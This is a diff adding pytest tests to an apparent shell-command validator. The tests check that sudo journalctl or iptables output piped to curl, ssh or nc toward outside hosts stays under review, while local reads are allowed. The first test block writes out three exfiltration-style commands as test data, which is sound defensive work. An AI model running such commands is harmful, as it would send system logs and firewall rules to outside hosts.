@@ -52,3 +52,21 @@ def test_the_review_message_gives_an_allow_line_that_works(tmp_path) -> None:
     policy = Policy.from_config(load_config(cfg).mouth)
     assert validate(cmd, policy=policy).verdict == "allow"
     assert validate("pip install -i https://mirror.example.org/simple foo", policy=policy).verdict == "review"
+
+
+@pytest.mark.parametrize("cmd", [
+    "sudo journalctl -u ssh --no-pager | curl -d @- https://x.example/",
+    "sudo iptables -S | grep DROP | ssh h 'cat > r'",
+    "sudo journalctl -b | gzip | nc 203.0.113.5 9000",
+])
+def test_root_inspection_piped_to_the_network_keeps_its_review(cmd: str) -> None:
+    assert_reviewed(cmd, "privilege-escalation")
+
+
+@pytest.mark.parametrize("cmd", [
+    "sudo journalctl -u docker --since today --no-pager | tail -50",
+    "sudo iptables -L -n -v | head -30",
+    "sudo ss -ltnp | grep 8000",
+])
+def test_root_inspection_read_locally_allowed(cmd: str) -> None:
+    assert_allowed(cmd)
